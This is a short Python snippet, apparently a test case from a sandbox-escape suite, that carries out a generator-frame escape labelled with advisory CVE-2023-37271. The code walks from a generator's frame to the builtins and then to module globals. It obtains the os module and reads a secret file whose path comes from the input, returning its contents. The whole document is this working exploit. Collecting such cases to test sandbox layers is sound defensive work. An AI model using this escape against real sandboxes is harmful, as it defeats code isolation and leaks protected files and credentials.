# class: exceptions and frames
# technique: the frame of a generator, and back from it
# advisory: CVE-2023-37271
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def frames():
    yield running.gi_frame
running = frames()
g = next(running).f_builtins["quit"].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
